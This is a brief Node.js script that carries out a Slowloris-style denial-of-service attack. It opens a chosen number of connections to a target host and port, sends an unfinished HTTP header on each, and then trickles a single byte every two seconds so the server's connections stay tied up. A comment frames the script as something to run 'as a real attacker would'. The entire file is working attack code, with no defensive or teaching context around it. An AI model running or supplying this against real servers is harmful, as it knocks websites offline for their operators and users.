import net from 'node:net'
import { setTimeout as sleep } from 'node:timers/promises'

const [host = 'localhost', port = '80', count = '10'] = process.argv.slice(2)

async function hold() {
  const socket = net.createConnection({ host, port: +port })
  socket.on('error', (error) => console.log('lost one:', error.message))
  socket.resume()
  // One letter of the header at a time.
  const header = 'GET / HTTP/1.1\r\nHost: ' + host + '\r\nCookie: '
  socket.write(header)
  while (!socket.destroyed) {
    await sleep(2000)
    if (socket.writable) socket.write('a')
  }
}

await Promise.all(Array.from({ length: +count }, hold))
// All are closed; stay, as a real attacker would.
setInterval(() => {}, 1 << 30)
